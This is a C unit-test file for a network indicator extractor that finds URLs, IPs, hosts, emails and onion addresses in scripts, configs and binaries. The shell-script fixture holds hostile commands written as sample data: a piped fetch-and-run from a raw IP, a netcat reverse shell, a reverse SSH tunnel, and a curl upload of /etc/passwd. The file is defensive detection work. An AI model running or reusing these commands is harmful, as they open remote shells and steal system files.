#include "unit.h"

#include "detect/netioc.h"
#include "util/buf.h"

#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>

static const char *const kind_names[] = {"url", "host", "ipv4", "ipv6", "email", "onion"};

/* Collects "kind value [domain] @line" lines. */
static int collect(void *ctx, const struct ioc *ioc)
{
	struct buf *b = ctx;

	buf_addf(b, "%s %s", kind_names[ioc->kind], ioc->value);
	if (ioc->domain)
		buf_addf(b, " [%s]", ioc->domain);
	buf_addf(b, " @%ld\n", ioc->line);
	return 0;
}

/* Runs text through the extractor in chunks of chunk bytes (0: whole). */
/* Each check runs with the 32-byte scans (AVX2, where the CPU has it) and
 * without them (16 bytes at a time): width 1 and 0. */
#define N_WIDTHS 2
static size_t width = 1;

static struct netioc *new_at_width(size_t w)
{
	struct netioc *x = netioc_new();

	netioc_allow_avx2(x, w == 1);
	return x;
}

static char *extract(const char *text, size_t chunk, unsigned flags)
{
	struct netioc *x = new_at_width(width);
	struct buf b = BUF_INIT;
	size_t len = strlen(text);

	netioc_begin(x, flags, collect, &b);
	if (!chunk)
		chunk = len ? len : 1;
	for (size_t off = 0; off < len; off += chunk) {
		/* each chunk in its own allocation: nothing may read past it */
		size_t n = len - off < chunk ? len - off : chunk;
		char *c = malloc(n);

		memcpy(c, text + off, n);
		netioc_feed(x, c, n);
		free(c);
	}
	netioc_end(x);
	netioc_free(x);
	buf_adds(&b, "");
	return buf_detach(&b, NULL);
}

/* The same indicators whatever the chunk size and the scans' width. */
#define CHECK_EXTRACT(text, flags, want)                                                           \
	do {                                                                                       \
		static const size_t sizes_[] = {0, 1, 2, 3, 7, 64, 4095};                          \
		for (size_t w_ = 0; w_ < N_WIDTHS; w_++) {                                         \
			width = w_;                                                                \
			for (size_t k_ = 0; k_ < sizeof(sizes_) / sizeof(sizes_[0]); k_++) {       \
				char *got_ = extract((text), sizes_[k_], (flags));                 \
				int same_ = !strcmp(got_, (want));                                 \
				if (!same_)                                                        \
					fprintf(stderr, "  width %zu, chunk %zu:\n%s", width,      \
					        sizes_[k_], got_);                                 \
				free(got_);                                                        \
				CHECK(same_);                                                      \
			}                                                                          \
		}                                                                                  \
	} while (0)

TEST(netioc, dockerfile)
{
	static const char text[] =
	    "FROM debian:bookworm-slim\n"
	    "LABEL maintainer=\"ops@example-corp.com\"\n"
	    "RUN apt-get update && apt-get install -y curl ca-certificates \\\n"
	    "    && curl -fsSL https://get.example-tools.io/install.sh | sh\n"
	    "ENV MIRROR=http://ftp.us.debian.org/debian PY_VERSION=3.11.4\n"
	    "COPY requirements.txt setup.py README.md /app/\n"
	    "CMD [\"/usr/bin/agent\", \"--server\", \"45.9.148.117:443\"]\n";

	CHECK_EXTRACT(text, 0,
	              "email ops@example-corp.com [example-corp.com] @2\n"
	              "url https://get.example-tools.io/install.sh [example-tools.io] @4\n"
	              "url http://ftp.us.debian.org/debian [debian.org] @5\n"
	              "ipv4 45.9.148.117 @7\n");
}

TEST(netioc, shell_script)
{
	static const char text[] =
	    "#!/bin/sh\n"
	    "# keep the box reachable\n"
	    "while true; do\n"
	    "  ssh -o StrictHostKeyChecking=no -R 80:localhost:22 serveo.net\n"
	    "  wget -q -O- http://185.222.58.10/x.sh | bash\n"
	    "  nc 2a0e:1c80:3::17 4444 -e /bin/sh\n"
	    "  ping -c1 192.168.1.1 >/dev/null; ping -c1 8.8.8.8\n"
	    "  cp libfoo-1.2.3.4.so /usr/lib/ && echo v1.2.3.4 1.2.3.4.5\n"
	    "  curl --data @/etc/passwd https://[2a0e:1c80::1]:8443/up\n"
	    "  sleep 60\n"
	    "done\n";

	CHECK_EXTRACT(text, 0,
	              "host serveo.net [serveo.net] @4\n"
	              "url http://185.222.58.10/x.sh @5\n"
	              "ipv6 2a0e:1c80:3::17 @6\n"
	              "ipv4 8.8.8.8 @7\n"
	              "url https://[2a0e:1c80::1]:8443/up @9\n");
}

TEST(netioc, nginx_config)
{
	static const char text[] = "upstream backend {\n"
	                           "    server 10.0.0.5:8080;\n"
	                           "    server 93.184.216.34:80 backup;\n"
	                           "}\n"
	                           "server {\n"
	                           "    listen 443 ssl;\n"
	                           "    server_name shop.example.com www.shop.example.com;\n"
	                           "    ssl_certificate /etc/nginx/certs/shop.example.com.pem;\n"
	                           "    location / { proxy_pass http://backend; }\n"
	                           "    resolver 1.1.1.1 [2606:4700:4700::1111] valid=300s;\n"
	                           "    access_log /var/log/nginx/access.log;\n"
	                           "    include /etc/nginx/mime.types;\n"
	                           "}\n";

	CHECK_EXTRACT(text, 0,
	              "ipv4 93.184.216.34 @3\n"
	              "host shop.example.com [example.com] @7\n"
	              "host www.shop.example.com [example.com] @7\n"
	              "url http://backend @9\n"
	              "ipv4 1.1.1.1 @10\n"
	              "ipv6 2606:4700:4700::1111 @10\n");
}

TEST(netioc, python_version_strings)
{
	static const char text[] =
	    "import os.path\n"
	    "from setuptools import setup\n"
	    "__version__ = \"1.2.3.4\"\n"
	    "VERSION = '4.3.2.1'\n"
	    "release: 5.6.7.8\n"
	    "config = {\"version\": \"9.8.7.6\", \"host\": \"self.name\"}\n"
	    "setup(name='pkg', version='2.0.0.1',\n"
	    "      install_requires=['requests>=2.31.0.1', 'six==1.16.0.0', 'x~=3.3.3.3'],\n"
	    "      url='https://pypi.org/project/pkg/')\n"
	    "self.assertEqual(os.environ.get('HOME'), user.email)\n"
	    "DNS = '9.9.9.9'  # a resolver\n";

	CHECK_EXTRACT(text, 0,
	              "url https://pypi.org/project/pkg/ [pypi.org] @9\n"
	              "ipv4 9.9.9.9 @11\n");
}

TEST(netioc, onion_and_email)
{
	/* the v3 address of the Tor Project's own onion service */
	static const char text[] =
	    "Mirror: http://2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion/\n"
	    "old: expyuzz4wqqyqhjn.onion, fake: "
	    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.onion\n"
	    "contact abuse@Mail.Example.NET or root@localhost\n";

	CHECK_EXTRACT(text, 0,
	              "onion 2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion @1\n"
	              "onion expyuzz4wqqyqhjn.onion @2\n"
	              "email abuse@mail.example.net [example.net] @3\n");
}

TEST(netioc, onion_in_binary)
{
	static const char text[] =
	    "\x7f"
	    "ELF\x01\x02garbage\x00\x00tor="
	    "2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion\x00"
	    "\x00zz expyuzz4wqqyqhjn.onion\x00 http://example.com/ not looked at";
	size_t len = sizeof(text) - 1;

	for (size_t k = 0; k < N_WIDTHS * 8; k++) {
		size_t chunk = ((size_t)2 << (k % 8)) - 1; /* 1, 3, 7 ... 255 */
		struct netioc *x = new_at_width(k / 8);
		struct buf b = BUF_INIT;

		netioc_begin(x, NETIOC_ONION_ONLY, collect, &b);
		for (size_t off = 0; off < len; off += chunk)
			netioc_feed(x, text + off, len - off < chunk ? len - off : chunk);
		netioc_end(x);
		netioc_free(x);
		CHECK_STR(
		    buf_cstr(&b),
		    "onion 2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion @1\n"
		    "onion expyuzz4wqqyqhjn.onion @1\n");
		buf_release(&b);
	}
}

TEST(netioc, long_lines_and_caps)
{
	struct buf text = BUF_INIT;
	char *got;
	size_t lines = 0;

	/* a minified line far longer than NETIOC_LINE_MAX: URLs all along it */
	for (int i = 0; i < 400; i++)
		buf_addf(&text, "var a%d=\"https://cdn%d.example.org/lib.js\";", i, i);
	buf_addc(&text, '\n');
	got = extract(text.ptr, 1000, 0);
	for (const char *p = got; (p = strstr(p, "url https://cdn")); p++)
		lines++;
	CHECK_INT(lines, 400);
	CHECK(strstr(got, "url https://cdn399.example.org/lib.js [example.org] @1\n") != NULL);
	free(got);
	/* no more than NETIOC_MAX_PER_STREAM from one stream */
	buf_reset(&text);
	for (int i = 0; i < 1500; i++)
		buf_addf(&text, "h%d.example.org\n", i);
	got = extract(text.ptr, 0, 0);
	lines = 0;
	for (const char *p = got; *p; p++)
		lines += *p == '\n';
	CHECK_INT(lines, NETIOC_MAX_PER_STREAM);
	free(got);
	buf_release(&text);
}

TEST(netioc, public_addresses)
{
	static const struct {
		const char *ip;
		bool pub;
	} cases[] = {
	    {"8.8.8.8", true},      {"10.1.2.3", false},     {"172.16.0.1", false},
	    {"172.32.0.1", true},   {"192.168.0.1", false},  {"127.0.0.1", false},
	    {"169.254.1.1", false}, {"100.64.0.1", false},   {"100.128.0.1", true},
	    {"192.0.2.1", false},   {"198.51.100.1", false}, {"203.0.113.1", false},
	    {"198.18.0.1", false},  {"224.0.0.1", false},    {"240.0.0.1", false},
	    {"0.1.2.3", false},     {"192.0.0.8", false},    {"192.0.3.1", true},
	    {"2a0e:1c80::1", true}, {"2001:db8::1", false},  {"fe80::1", false},
	    {"fc00::1", false},     {"::1", false},          {"ff02::1", false},
	    {"3fff::1", false},     {"2606:4700::1", true},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		unsigned char a[16];
		bool v6 = strchr(cases[i].ip, ':') != NULL;

		CHECK(inet_pton(v6 ? AF_INET6 : AF_INET, cases[i].ip, a) == 1);
		if (netioc_ip_public(a, v6) != cases[i].pub)
			UNIT_FAIL("%s: public should be %d", cases[i].ip, cases[i].pub);
	}
}

TEST(netioc, onion_validation)
{
	CHECK(netioc_onion_valid("2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid", 56));
	/* one character changed: the checksum fails */
	CHECK(!netioc_onion_valid("2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wia", 56));
	CHECK(!netioc_onion_valid("3gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid", 56));
	CHECK(netioc_onion_valid("expyuzz4wqqyqhjn", 16));
	CHECK(!netioc_onion_valid("expyuzz4wqqyqhj1", 16));
	CHECK(!netioc_onion_valid("expyuzz4wqqyqhj", 15));
}

TEST(netioc, short_schemes_and_words)
{
	CHECK_EXTRACT("ws ws://relay.example.net:80/x and plain words only\n", 0,
	              "url ws://relay.example.net:80/x [example.net] @1\n");
	CHECK_EXTRACT("no indicators: a b c d.e f:g\n", 0, "");
}

/* n letters, a to z and again: a line's plain text of any length */
static void add_letters(struct buf *b, int n)
{
	for (int i = 0; i < n; i++)
		buf_addc(b, (char)('a' + i % 26));
}

TEST(netioc, lines_without_marks_skipped)
{
	struct buf text = BUF_INIT, want = BUF_INIT;
	long line = 1;

	/* lines without '.' or ':' of every length around the 16- and 32-byte
	 * blocks of the fast scans, each followed by a line whose indicator ends
	 * it */
	for (int n = 0; n < 40; n++) {
		add_letters(&text, n);
		buf_addc(&text, '\n');
		line++;
		for (int i = 0; i < n % 17; i++)
			buf_addc(&text, ' ');
		buf_addf(&text, "x%d.example.com\n", n);
		buf_addf(&want, "host x%d.example.com [example.com] @%ld\n", n, line);
		line++;
	}
	/* the last line, without its '\n', after a run of plain lines */
	buf_adds(&text, "plain\nwords only\n\n\nmirror at 2001:4860:4860::8888");
	buf_addf(&want, "ipv6 2001:4860:4860::8888 @%ld\n", line + 4);
	CHECK_EXTRACT(text.ptr, 0, buf_cstr(&want));
	buf_release(&text);
	buf_release(&want);
}

TEST(netioc, lines_of_code_punctuation_skipped)
{
	struct buf text = BUF_INIT, want = BUF_INIT;
	long line = 1;

	/* lines whose ':' and '.' can start no indicator (":=", "key: value",
	 * sentence ends, "..", "./"), of every length around the blocks of the
	 * fast scan, each followed by an indicator whose only marks are the ones
	 * that keep a line: two ':' five bytes apart, "://" before a host
	 * without a dot, a dot between a name and a letter after a sentence
	 * end */
	for (int n = 0; n < 40; n++) {
		add_letters(&text, n);
		buf_adds(&text, " := x; key: value. Done.. ./run .5\n");
		line++;
		switch (n % 3) {
		case 0:
			buf_adds(&text, "dns 2606:4700:4700:0000:0000:0000:0000:1111\n");
			buf_addf(&want, "ipv6 2606:4700:4700::1111 @%ld\n", line);
			break;
		case 1:
			buf_adds(&text, "get http://intranet:8080/x\n");
			buf_addf(&want, "url http://intranet:8080/x @%ld\n", line);
			break;
		default:
			buf_adds(&text, "End. Mirror x.example.org.\n");
			buf_addf(&want, "host x.example.org [example.org] @%ld\n", line);
			break;
		}
		line++;
	}
	CHECK_EXTRACT(text.ptr, 0, buf_cstr(&want));
	buf_release(&text);
	buf_release(&want);
}

TEST(netioc, onion_at_chunk_boundaries)
{
	static const char name[] = "2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid.onion";

	/* the name at every offset from the 16- and 32-byte blocks of the fast
	 * scans, after decoys that match its first, second and sixth bytes, fed
	 * whole and split inside ".onion", at every width */
	for (size_t pad = 0; pad < 40 * N_WIDTHS; pad++) {
		struct buf bin = BUF_INIT;
		size_t dot;

		buf_addc(&bin, '\0');
		for (size_t i = 0; i < pad % 40; i++)
			buf_addc(&bin, '\x01');
		buf_adds(&bin, ".oxxxn .onio.n\x01");
		dot = bin.len + sizeof(name) - 1 - 6;
		buf_adds(&bin, name);
		for (size_t cut = 0; cut <= 6; cut++) {
			struct netioc *x = new_at_width(pad / 40);
			struct buf b = BUF_INIT;
			size_t at = dot + cut; /* inside ".onion", or an empty second feed */

			netioc_begin(x, NETIOC_ONION_ONLY, collect, &b);
			netioc_feed(x, bin.ptr, at);
			netioc_feed(x, bin.ptr + at, bin.len - at);
			netioc_end(x);
			netioc_free(x);
			CHECK_STR(buf_cstr(&b),
			          "onion "
			          "2gzyxa5ihm7nsggfxnu52rck2vv4rvmdlkiu3zzui5du4xyclen53wid."
			          "onion @1\n");
			buf_release(&b);
		}
		buf_release(&bin);
	}
}
